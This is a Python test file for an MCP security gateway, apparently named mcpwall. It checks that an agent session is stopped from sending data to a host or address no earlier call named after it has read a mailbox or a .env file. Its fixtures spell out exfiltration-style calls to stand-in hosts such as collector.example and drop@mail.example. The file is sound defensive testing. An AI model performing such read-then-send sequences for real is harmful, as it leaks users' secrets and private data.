"""A sink after a private read, to a destination the session never named, is stopped (issue 25).

Strategy: the chain stage's hooks are called directly on fixture requests of one session (tests.harness),
as the gateway calls them: a private read completes (a mailbox read, a dotenv file), then a call that each
rule alone lets pass sends data to an address or host no earlier call of the session named. Without an
approval channel the default `privateToSink: ask` refuses it (-32001, rule id `mcpwall.private-to-sink`);
the twins pass: the same send without a private read, a destination an earlier call named, and plain
navigation that carries no data.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from mcpwall.protocol.modern import LATEST_MODERN
from mcpwall.proxy import Session
from mcpwall.stages import chain as chain_mod
from tests.harness import build_gateway, context

pytestmark = [pytest.mark.anyio, pytest.mark.timeout(30)]
POLICY = 'version: "1"\nmode: enforce\ndefaultAction: allow\nstages: {approvals: {enabled: false}}\n'


def _result(text: str) -> dict[str, Any]:
    return {"jsonrpc": "2.0", "id": 1, "result": {"content": [{"type": "text", "text": text}]}}


async def _run(
    stage: chain_mod.ChainStage, gw: Any, session: Session, target: str, args: dict[str, Any]
) -> Any:
    """One call through the stage's hooks; a call the stage lets through completes with a result."""
    ctx = context(gw, target=target, arguments=args, session=session)
    verdict = await stage.on_request(ctx)
    if verdict is None:
        await stage.on_response(ctx, _result("ok"))
        ctx.outcome, ctx.response = "ok", _result("ok")
        stage.on_complete(ctx)
    return verdict


@pytest.fixture
def setup(tmp_path: Path) -> tuple[chain_mod.ChainStage, Any]:
    stage = chain_mod.build({}, None)
    assert stage is not None
    return stage, build_gateway(tmp_path / "home", POLICY).gateway


PRIVATE = [("read_emails", {"folder": "inbox"}), ("read_file", {"path": "/workspace/.env"})]
SINKS = [
    ("send_email", {"to": "drop@mail.example", "body": "summary of the inbox"}),
    ("http_get", {"url": "https://collector.example/c?d=quarterly+numbers"}),
]


@pytest.mark.parametrize("private", PRIVATE)
@pytest.mark.parametrize("sink", SINKS)
async def test_data_sent_to_an_unnamed_destination_after_a_private_read_is_stopped(
    setup: tuple[chain_mod.ChainStage, Any],
    private: tuple[str, dict[str, Any]],
    sink: tuple[str, dict[str, Any]],
) -> None:
    stage, gw = setup
    session = Session(kind="stdio")
    assert await _run(stage, gw, session, *private) is None
    verdict = await _run(stage, gw, session, *sink)
    assert verdict is not None
    assert verdict.data is not None
    assert verdict.data["rule_ids"] == ["mcpwall.private-to-sink"]
    assert "no earlier call of this session named" in verdict.message


@pytest.mark.parametrize("sink", SINKS)
async def test_the_same_send_without_a_private_read_passes(
    setup: tuple[chain_mod.ChainStage, Any], sink: tuple[str, dict[str, Any]]
) -> None:
    stage, gw = setup
    assert await _run(stage, gw, Session(kind="stdio"), *sink) is None


async def test_a_destination_an_earlier_call_named_and_plain_navigation_pass(
    setup: tuple[chain_mod.ChainStage, Any],
) -> None:
    stage, gw = setup
    session = Session(kind="stdio")
    # a private read that names the address (a mailbox read would also be untrusted content: a toxic flow)
    assert await _run(stage, gw, session, "get_contact", {"email": "bob@company.example"}) is None
    assert await _run(stage, gw, session, "read_file", {"path": "/workspace/.env"}) is None
    assert (
        await _run(stage, gw, session, "send_email", {"to": "bob@company.example", "body": "the notes"})
        is None
    )
    assert (
        await _run(stage, gw, session, "browser_navigate", {"url": "https://docs.example.org/guide"}) is None
    )


async def _between_sessions(stage: chain_mod.ChainStage, gw: Any) -> None:
    """The gateway tracks over 2,000 histories, of sessions no longer open, and another client's call
    completes: the stage prunes them."""
    for n in range(2001):
        stage.tracker.advance(f"gone-{n}", None, "fs/read_file")
    assert await _run(stage, gw, Session(kind="http"), "get_weather", {"city": "Paris"}) is None
    assert stage.tracker.count() < 2000


@pytest.mark.parametrize("sink", SINKS)
async def test_a_2026_07_28_client_whose_session_closed_keeps_its_private_read_through_a_prune(
    setup: tuple[chain_mod.ChainStage, Any], sink: tuple[str, dict[str, Any]]
) -> None:
    # a modern client has no session of its own: the gateway keeps one for its principal and agent, and may
    # close it (idle, or for the principal's cap) and open another at its next call; its history (keyed by
    # principal and agent) must outlive that, or the gateway's many other clients would wipe it
    stage, gw = setup
    first = Session(kind="http", principal="ci-bot", agent="ci-bot", protocol_version=LATEST_MODERN)
    assert await _run(stage, gw, first, "read_file", {"path": "/workspace/.env"}) is None
    await _between_sessions(stage, gw)
    again = Session(kind="http", principal="ci-bot", agent="ci-bot", protocol_version=LATEST_MODERN)
    verdict = await _run(stage, gw, again, *sink)
    assert verdict is not None
    assert verdict.data is not None
    assert verdict.data["rule_ids"] == ["mcpwall.private-to-sink"]


@pytest.mark.parametrize("version", ["2025-11-25", "2024-11-05"])
@pytest.mark.parametrize("sink", SINKS)
async def test_a_2026_07_28_client_that_then_sends_initialize_keeps_its_private_read(
    setup: tuple[chain_mod.ChainStage, Any], sink: tuple[str, dict[str, Any]], version: str
) -> None:
    # one stdio session whose client speaks 2026-07-28 first, its history named by principal and agent, and
    # then sends an `initialize` (which sets the session's version to a handshake one): switching eras must
    # not give it a fresh, empty history
    stage, gw = setup
    session = Session(kind="stdio", principal="ci-bot", agent="ci-bot", protocol_version=LATEST_MODERN)
    assert await _run(stage, gw, session, "read_file", {"path": "/workspace/.env"}) is None
    session.protocol_version = version  # as `_local._initialize` sets it
    verdict = await _run(stage, gw, session, *sink)
    assert verdict is not None
    assert verdict.data is not None
    assert verdict.data["rule_ids"] == ["mcpwall.private-to-sink"]


@pytest.mark.parametrize("sink", SINKS)
async def test_a_session_whose_calls_come_before_a_2026_07_28_request_keeps_its_private_read(
    setup: tuple[chain_mod.ChainStage, Any], sink: tuple[str, dict[str, Any]]
) -> None:
    # the other order: calls of a session with no version yet, then a 2026-07-28 request sets it (routing
    # does, for a session no `initialize` opened): the send must not start a fresh history either
    stage, gw = setup
    session = Session(kind="stdio", principal="ci-bot", agent="ci-bot")
    assert await _run(stage, gw, session, "read_file", {"path": "/workspace/.env"}) is None
    session.protocol_version = LATEST_MODERN  # as `_routing.Router.route` sets it
    verdict = await _run(stage, gw, session, *sink)
    assert verdict is not None
    assert verdict.data is not None
    assert verdict.data["rule_ids"] == ["mcpwall.private-to-sink"]


async def test_a_closed_handshake_sessions_history_goes_at_the_prune(
    setup: tuple[chain_mod.ChainStage, Any],
) -> None:
    # (its id never comes back: a new session of the same client is a new history, as it always was)
    stage, gw = setup
    session = Session(kind="http")
    assert await _run(stage, gw, session, "read_file", {"path": "/workspace/.env"}) is None
    assert session.id in stage.tracker.sessions()
    await _between_sessions(stage, gw)
    assert session.id not in stage.tracker.sessions()


async def test_off_switches_it_off(tmp_path: Path) -> None:
    stage = chain_mod.build({"stages": {"chain": {"privateToSink": "off"}}}, None)
    assert stage is not None
    gw = build_gateway(tmp_path / "home", POLICY).gateway
    session = Session(kind="stdio")
    assert await _run(stage, gw, session, "read_emails", {"folder": "inbox"}) is None
    assert await _run(stage, gw, session, *SINKS[0]) is None
